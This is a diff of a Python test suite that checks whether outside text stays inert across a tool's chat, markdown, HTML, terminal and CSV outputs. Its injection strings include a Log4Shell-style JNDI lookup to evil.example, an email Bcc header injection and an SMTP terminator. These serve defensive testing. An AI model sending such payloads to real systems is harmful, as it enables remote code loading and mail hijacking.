@@ -1,6 +1,7 @@
 #!/usr/bin/env python3
 """Text from outside stays text: names, summaries and evidence that try to be markup, mentions, links, formulas or terminal commands, in
 every format that leaves the house and on the terminal. Each format is read back as its receiver would read it."""
+import contextlib
 import csv
 import html
 import io
@@ -17,8 +18,9 @@ from pathlib import Path
 sys.path.insert(0, str(Path(__file__).resolve().parents[1] / "support"))
 sys.path.insert(0, str(Path(__file__).resolve().parent))
 import npm  # noqa: E402
-from harness import run  # noqa: E402
+from harness import HEAVY, run  # noqa: E402
 from mattermost import mentions  # noqa: E402
+from test_answers import Desk, token  # noqa: E402
 from test_mail_format import NOW, TODAY  # noqa: E402
 
 EVIL = [
@@ -40,12 +42,14 @@ EVIL = [
     "{{key}}", "${jndi:ldap://evil.example}", "\nBcc: evil@evil.example\n", "\r\n.\r\n", "a" * 3000,
 ]
 HIDDEN = re.compile("[\x00-\x08\x0b-\x1f\x7f-\x9f\u200b-\u200f\u2028-\u202e\u2060-\u2064\u2066-\u206f\ufeff\u061c]")
-OURS = re.compile(r"https://(crm\.acme\.example/company/|acme\.example/u)")
+OURS = re.compile(r"https://(crm\.acme\.example/company/|acme\.example/u|retaind\.acme\.example/a/acme/[\w-]{44}$)")
 ORG = """
 title: {title}
 zone: Europe/Paris
 currency: EUR
 account_url: "https://crm.acme.example/company/{{{{key}}}}"
+answers: {{ url: "https://retaind.acme.example", secret: "file:{folder}/answers" }}
+language: {language}
 sources:
   crm:
     connector: csv
@@ -67,9 +71,11 @@ channels:
 """
 
 
-def organisation(case, evil="Mia", more="", names=""):
-    """All kinds of channels, and two findings for each evil text: in the name, the summary and the evidence."""
-    case.org(ORG.format(folder=case.tmp, title=json.dumps(f"Acme {evil}"), owner=json.dumps(f"Mia {evil}"), more=more, names=names))
+def organisation(case, evil="Mia", more="", names="", language="en"):
+    """All kinds of channels, and a finding for each evil text: in the name, the key, the summary and the evidence."""
+    case.write("answers", "answers-key-0123456789abcdef\n").chmod(0o600)
+    case.org(ORG.format(folder=case.tmp, title=json.dumps(f"Acme {evil}"), owner=json.dumps(f"Mia {evil}"), more=more, names=names,
+                        language=language), daemon_yaml="web: { listen: '127.0.0.1:8642' }\n")
     case.retaind("migrate", "--now", NOW)
     with sqlite3.connect(case.database()) as db:
         db.execute("INSERT INTO source (id, name, kind, last_ok_at, last_ok_on) VALUES (1, 'crm', 'csv', 1772430000, 20514)")
@@ -213,8 +219,13 @@ JUDGES = {"slack_webhook": slack, "slack_api": slack, "teams": teams, "google_ch
 
 def test_every_format(case):
     """read as its receiver reads it, no format has an active construct or a hidden character that came from outside; links lead to us only"""
-    organisation(case)
-    found = bodies(case)
+    for language in ("en", "fr"):
+        shutil.rmtree(case.tmp / "state", ignore_errors=True)
+        organisation(case, language=language)
+        look_at_all(bodies(case))
+
+
+def look_at_all(found):
     assert set(found) == set(JUDGES), set(found) ^ set(JUDGES)
     for kind, messages in found.items():
         for body in messages:
@@ -245,7 +256,7 @@ for (const text of JSON.parse(readFileSync(0, "utf8")))
     for (const t of [token, ...(token.children || [])]) {
       if (/^(image|html_inline|html_block|blockquote_open|table_open|fence|code_block|code_inline|heading_open|s_open)$/.test(t.type))
         bad.push(`${t.type}: ${t.content || ""}`);
-      if (t.type === "link_open" && !/^https:\\/\\/crm\\.acme\\.example\\/company\\//.test(t.attrGet("href")))
+      if (t.type === "link_open" && !/^https:\\/\\/(crm\\.acme\\.example\\/company\\/|retaind\\.acme\\.example\\/a\\/acme\\/[\\w-]{44}$)/.test(t.attrGet("href")))
         bad.push(t.attrGet("href"));
     }
 console.log(JSON.stringify(bad));
@@ -277,23 +288,70 @@ def test_markdown(case):
 
 
 def test_terminal_and_csv(case):
-    """on a terminal nothing that came from outside moves the cursor, colours, hides or turns the line; in CSV no cell is a formula"""
+    """on a terminal nothing that came from outside moves the cursor, colours, hides or turns the line; in CSV no cell is a formula: in every
+    list that has names, reasons, notes or errors"""
     organisation(case)
-    account = "n1 " + EVIL[1]
-    commands = [("accounts",), ("accounts", "--engine", "expansion"), ("preview", "--owner", "mia@acme.example"), ("explain", account), ("deliveries", "list"),
-                ("preview", "--owner", "mia@acme.example", "--format", "json")]
     bodies(case)
+    with contextlib.closing(sqlite3.connect(case.database())) as db, db:
+        db.execute("UPDATE outbox SET state = 'dead', reason = ?", (EVIL[65],))
+        for i, text in enumerate(EVIL, 1):
+            db.execute("INSERT INTO finding_event (finding_id, day, at, kind, note, who, via, reason) VALUES (?, ?, 1772430000, 'dismissed', ?, ?, 'cli', ?)",
+                       (i, TODAY, text, text, text))
+            db.execute("INSERT INTO band_override (account_id, engine, band, who, reason, made_on, made_at, until_on) VALUES (?, 'defense', 1, ?, ?, ?, "
+                       "1772430000, ?)", (i, text, text, TODAY, TODAY + 9))
+    lists = [("accounts",), ("accounts", "--engine", "expansion"), ("deliveries", "list"), ("answers",), ("override",), ("signals",)]
+    commands = [*lists, *((*command, "--format", "json") for command in lists), ("preview", "--owner", "mia@acme.example"), ("explain", "n1 " + EVIL[1]),
+                ("preview", "--owner", "mia@acme.example", "--format", "json"), ("explain", "n1 " + EVIL[1], "--format", "json"),
+                ("deliveries", "show", case.query("SELECT id FROM outbox LIMIT 1")[0][0]), ("override", "n65 " + EVIL[65], "--engine", "defense", "--clear")]
     for command in commands:
-        out = case.retaind(*command, "--now", NOW, expect=None)
+        out = case.retaind(*map(str, command), "--now", NOW, expect=None)
         said = out.stdout + out.stderr
-        assert not HIDDEN.findall(said), (command, HIDDEN.findall(said)[:5], said[:500])
-    n = 0
-    for command in (("accounts",), ("accounts", "--engine", "expansion"), ("deliveries", "list")):
+        assert len(said) > 20 and not HIDDEN.findall(said), (command, HIDDEN.findall(said)[:5], said[:500])
+    for command in lists:
+        n = 0
         for row in csv.reader(io.StringIO(case.retaind(*command, "--format", "csv", "--now", NOW).stdout)):
             for cell in row:
                 n += 1
                 assert not re.match(r"[=+@\t\r]|-(?!\d+(\.\d+)?$)", cell), (command, cell)
-    assert n > 300, n
+                assert not HIDDEN.findall(cell), (command, cell)
+        assert n > 100 or command == ("signals",), (command, n)
+
+
+class Form(Tags):
+    """An answer page: besides what other pages have, one form, which is sent to where it came from, and links beside it."""
+
+    def handle_starttag(self, tag, attrs):
+        super().handle_starttag(tag, [(n, v) for n, v in attrs if n != "href" or not re.fullmatch(r"[\w-]{44}", v)])
+
+
+def test_answer_pages(case):
+    """the same on the pages behind links, which ask and tell, in both languages"""
+    desk = Desk(case)
+    allowed = PAGE | {"main", "form", "input", "fieldset", "legend", "label", "select", "option", "textarea", "button"}
+    looked = 0
+
+    def look(answer):
+        assert answer[0] in (200, 410), answer[:2]
+        page = Form(answer[1], allowed)
+        assert not page.bad and not HIDDEN.findall(answer[1]), (page.bad, HIDDEN.findall(answer[1]), answer[1][-1500:])
+        assert len(re.findall("<form|<a ", answer[1])) == (answer[0] == 200)
+
+    step = 1 if HEAVY else 3
+    for i, text in enumerate(EVIL[::step]):
+        with contextlib.closing(sqlite3.connect(case.database())) as db, db:
+            db.execute("UPDATE account SET name = ? WHERE id = 2", (text,))
+            db.execute("UPDATE finding SET summary = ?, evidence = ?, currency = ? WHERE id = 2",
+                       (text, json.dumps([{"text": text, "signal": text, "words": {"x": text}}]), text))
+        owner = ("ada", "zoe")[i % 2]
+        link = "/a/acme/" + token(range(5)[i % 5], 2, owner=f"{owner}@acme.example", made_on=20000 + i)
+        look(desk.call("GET", link))
+        looked += 1
+        if i % 5 < 2:
+            told = desk.post(link, days="7", note=text)
+            look(told)
+            look(desk.call("GET", link))
+            desk.post("/a/acme/" + re.search('<a href="([^"]*)"', told[1]).group(1))
+    print(f"         {looked} pages")
 
 
 run(globals())
